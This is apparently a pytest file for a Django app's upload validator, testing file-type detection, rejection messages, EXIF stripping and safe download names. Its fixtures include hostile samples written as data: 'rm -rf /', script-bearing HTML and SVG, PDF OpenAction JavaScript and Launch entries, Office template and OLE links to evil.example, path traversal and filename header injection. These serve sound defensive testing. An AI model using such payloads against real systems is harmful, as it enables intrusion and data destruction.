"""What an upload is told to be, and what is refused with which sentence."""

import contextlib
import re
import tracemalloc
from io import BytesIO

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from publishing import attachments, images, office_files
from publishing.attachments import read, title_from
from publishing.file_names import download_name, size_text
from publishing.models import FileKind
from tests.factories import picture_bytes
from tests.publishing.documents import (
    EXE,
    OLD_WORD,
    PDF,
    WITH_PASSWORD,
    claiming,
    content_types,
    office,
    relations,
    zipped,
)

HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
HUGE = b"\0" * (30 * 1024 * 1024)


def judged(data, name="a.bin"):
    return read(SimpleUploadedFile(name, data))


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (PDF, FileKind.PDF),
        (b"\xef\xbb\xbf\r\n" + PDF, FileKind.PDF),
        (PDF + b"\r\n\0\0", FileKind.PDF),
        (office("word"), FileKind.WORD),
        (office("excel"), FileKind.EXCEL),
        (office("powerpoint"), FileKind.POWERPOINT),
        (picture_bytes(), FileKind.JPEG),
        (picture_bytes(format="PNG"), FileKind.PNG),
        (picture_bytes(format="WEBP"), FileKind.WEBP),
    ],
)
def test_kind_is_told_from_the_content_whatever_the_name(data, kind):
    document = judged(data, "計画書.exe")

    assert document.kind == kind
    assert document.size == document.file.size
    assert document.file.read(8)


BROKEN_TYPES = {"[Content_Types].xml": "<Types"}
ENTITIES = {"[Content_Types].xml": '<!DOCTYPE x [<!ENTITY a "b">]>' + content_types("word/document.xml", "x")}
TEMPLATE = {"word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/a.dotm", "External")}
SHARE = {"word/_rels/settings.xml.rels": relations("attachedTemplate", r"file://server/share/a.dotm", "External")}
OBJECT = {"word/_rels/document.xml.rels": relations("oleObject", "mhtml:https://evil.example/x!x-usc:", "External")}
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"


@pytest.mark.parametrize(
    ("name", "data", "sentence"),
    [
        ("空.pdf", b"", attachments.IS_EMPTY),
        ("報告.pdf", EXE, attachments.IS_A_PROGRAM),
        ("報告.pdf", b"\x7fELF\2\1\1" + b"\0" * 100, attachments.IS_A_PROGRAM),
        ("報告.docx", b"#!/bin/sh\nrm -rf /\n", attachments.IS_A_PROGRAM),
        ("報告.docx", HTML, attachments.IS_A_WEB_PAGE),
        ("図.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", attachments.IS_A_WEB_PAGE),
        ("図.pdf", b"<?xml version='1.0'?>\n<svg onload='alert(1)'/>", attachments.IS_A_WEB_PAGE),
        ("表.csv", "名前,住所".encode(), attachments.IS_ANOTHER_KIND),
        ("表.xlsx", b"\0" * 500, attachments.IS_ANOTHER_KIND),
        # PDF
        ("a.pdf", PDF[:-30], attachments.IS_BROKEN_PDF),
        ("a.pdf", PDF[:60], attachments.IS_BROKEN_PDF),
        ("a.pdf", PDF + b"\0" * 2000, attachments.IS_BROKEN_PDF),
        ("a.pdf", PDF + zipped({"a.html": "x"}), attachments.IS_TWO_THINGS),
        ("a.pdf", PDF + zipped({"a.html": "x" * 9000}, 0), attachments.IS_TWO_THINGS),
        ("a.pdf", b"GARBAGE\n" + PDF, attachments.IS_TWO_THINGS),
        ("a.pdf", PDF.replace(b"1 0 obj", b"%<script>alert(1)</script>\n1 0 obj"), attachments.IS_TWO_THINGS),
        ("a.pdf", PDF.replace(b"/Type /Catalog", b"/OpenAction << /S /JavaScript >>"), attachments.RUNS_BY_ITSELF),
        ("a.pdf", PDF.replace(b"/Type /Catalog", b"/OpenAction << /S /J#61va#53cript >>"), attachments.RUNS_BY_ITSELF),
        ("a.pdf", PDF.replace(b"/Type /Catalog", b"/OpenAction << /S /Launch >>"), attachments.RUNS_BY_ITSELF),
        ("a.html", HTML + PDF, attachments.IS_A_WEB_PAGE),
        # Office
        ("a.doc", OLD_WORD, office_files.IS_OLD),
        ("a.docx", WITH_PASSWORD, office_files.IS_LOCKED),
        ("a.docx", office()[:-40], office_files.IS_BROKEN),
        ("a.docx", office()[:300], office_files.IS_BROKEN),
        ("a.docx", b"PK\x03\x04", office_files.IS_BROKEN),
        ("a.docx", office(after=b"<html><script>"), office_files.IS_TWO_THINGS),
        ("a.docx", b"PK\x03\x04" + office(), office_files.IS_TWO_THINGS),
        ("a.docx", zipped({"a.html": "x"}), office_files.IS_NO_OFFICE_FILE),
        ("a.docx", office(without=["word/document.xml"]), office_files.IS_NO_OFFICE_FILE),
        ("a.odt", zipped({"mimetype": "application/vnd.oasis.opendocument.text"}), office_files.IS_NO_OFFICE_FILE),
        ("a.apk", zipped({"classes.dex": "x", "META-INF/MANIFEST.MF": "x"}), office_files.IS_NO_OFFICE_FILE),
        ("a.docx", office(content_type=MACRO_TYPE), office_files.HAS_MACROS),
        ("a.docx", office(parts={"word/vbaProject.bin": "x"}), office_files.HAS_MACROS),
        ("a.xlsx", office("excel", parts={"xl/macrosheets/sheet1.xml": "x"}), office_files.HAS_MACROS),
        ("a.xlsx", office("excel", parts={"xl/activeX/activeX1.bin": "x"}), office_files.HAS_MACROS),
        ("a.docx", office(parts=TEMPLATE), office_files.LOADS_FROM_ELSEWHERE),
        ("a.docx", office(parts=SHARE), office_files.LOADS_FROM_ELSEWHERE),
        ("a.docx", office(parts=OBJECT), office_files.LOADS_FROM_ELSEWHERE),
        ("a.docx", office(parts=BROKEN_TYPES), office_files.IS_BROKEN),
        ("a.docx", office(parts=ENTITIES), office_files.IS_BROKEN),
        ("a.docx", office(parts={"[Content_Types].xml": "あ".encode("utf-16")}), office_files.IS_BROKEN),
        ("a.docx", office(parts={"[Content_Types].xml": " " * 2_000_000}), office_files.IS_TOO_LARGE_UNPACKED),
        ("a.docx", office(parts={"../../etc/cron.d/x": "x"}), office_files.IS_TWO_THINGS),
        ("a.docx", office(parts={"WORD/document.xml": "x"}), office_files.IS_TWO_THINGS),
        ("a.docx", office(parts={"word/media/a.bin": HUGE}), office_files.IS_TOO_LARGE_UNPACKED),
        ("a.docx", office(parts={f"{n}": "" for n in range(5001)}), office_files.IS_TOO_LARGE_UNPACKED),
        ("a.docx", claiming(office(), unpacked=4_000_000_000), office_files.IS_TOO_LARGE_UNPACKED),
        ("a.docx", claiming(office(), count=60_000), office_files.IS_TOO_LARGE_UNPACKED),
        # Pictures
        ("a.jpg", picture_bytes()[:200], images.NOT_AN_IMAGE),
        ("a.jpg", picture_bytes() + zipped({"a.html": "x"}), images.IS_TWO_THINGS),
        ("a.gif", picture_bytes(format="GIF"), images.IS_GIF),
        ("a.heic", b"\0\0\0\x18ftypheic\0\0\0\0", images.IS_HEIC),
        ("a.wav", b"RIFF\0\0\0\0WAVEfmt ", images.NOT_AN_IMAGE),
    ],
)
def test_what_is_refused_is_told_why(name, data, sentence):
    with pytest.raises(ValidationError) as refusal:
        judged(data, name)

    assert refusal.value.messages == [sentence]


def test_links_that_a_person_follows_and_templates_of_the_own_machine_are_no_harm():
    parts = {
        "word/_rels/document.xml.rels": relations("hyperlink", "https://example.jp/", "External"),
        "word/_rels/settings.xml.rels": relations("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm", "External"),
    }

    assert judged(office(parts=parts)).kind == FileKind.WORD


def test_size_is_judged_before_anything_is_read():
    upload = SimpleUploadedFile("a.pdf", PDF)
    upload.size = attachments.MAX_BYTES + 1
    upload.file = None

    with pytest.raises(ValidationError) as refusal:
        read(upload)

    assert refusal.value.messages == [attachments.TOO_MANY_BYTES]


def test_large_documents_are_read_in_pieces(tmp_path):
    path = tmp_path / "large.pdf"
    path.write_bytes(PDF[:-6] + b"\0" * (19 * 1024 * 1024) + b"%%EOF\n")
    with path.open("rb") as file:
        upload = attachments.File(file)
        tracemalloc.start()
        read(upload)
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()

    assert most < 5 * 1024 * 1024


def test_pictures_lose_the_place_they_were_taken_at():
    tags = Image.Exif()
    tags[0x8825] = {1: "N", 2: (35.0, 41.0, 22.0), 3: "E", 4: (139.0, 41.0, 30.0)}
    data = picture_bytes((3000, 2000), exif=tags, comment="ひみつ".encode())

    document = judged(data)

    kept = document.file.read()
    image = Image.open(BytesIO(kept))
    assert image.size == (3000, 2000)
    assert not image.getexif()
    assert "ひみつ".encode() not in kept


@given(st.data())
@settings(max_examples=200, deadline=None)
@pytest.mark.filterwarnings("ignore::UserWarning")  # Pillow's and zipfile's, about broken files
def test_broken_files_are_refused_or_read_but_never_raise(data):
    original = data.draw(st.sampled_from([PDF, office("word"), office("excel", parts=TEMPLATE), OLD_WORD]))
    broken = bytearray(original)
    for _ in range(data.draw(st.integers(1, 6))):
        broken[data.draw(st.integers(0, len(broken) - 1))] = data.draw(st.integers(0, 255))

    with contextlib.suppress(ValidationError):
        judged(bytes(broken[: data.draw(st.integers(1, len(broken)))]))


def test_file_is_at_its_beginning_after_it_was_judged():
    for data in (PDF, office()):
        upload = ContentFile(data)
        read(upload)
        assert upload.read() == data


@pytest.mark.parametrize(
    ("name", "title"),
    [
        ("利用案内.pdf", "利用案内"),
        ("C:\\fakepath\\利用案内.docx", "利用案内"),
        ("../../etc/passwd.pdf", "passwd"),
        ("ＡＢＣ.pdf", "ABC"),
        ("あ" * 300 + ".pdf", "あ" * 100),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie: x"),
        (".pdf", ".pdf"),
        ("", ""),
    ],
)
def test_title_made_of_the_name_of_a_file(name, title):
    assert title_from(name) == title


@pytest.mark.parametrize(
    ("title", "kind", "name"),
    [
        ("利用案内", "pdf", "利用案内.pdf"),
        ("令和8年度 計画/概要", "word", "令和8年度_計画_概要.docx"),
        ("../../x", "excel", "x.xlsx"),
        ('a"; filename=evil.exe', "jpeg", "a_filename=evil.exe.jpg"),
        ("...", "pdf", "資料.pdf"),
        ("あ" * 100, "pdf", "あ" * 80 + ".pdf"),
    ],
)
def test_name_of_a_download(title, kind, name):
    assert download_name(title, kind) == name
    assert re.fullmatch(r"[^/\\]+", name)


@pytest.mark.parametrize(
    ("size", "text"),
    [
        (1, "1KB"),
        (1500, "1KB"),
        (350_000, "342KB"),
        (1024 * 1024 - 1, "1023KB"),
        (1024 * 1024, "1.0MB"),
        (1_258_291, "1.2MB"),
        (20 * 1024 * 1024, "20MB"),
    ],
)
def test_sizes_in_words(size, text):
    assert size_text(size) == text
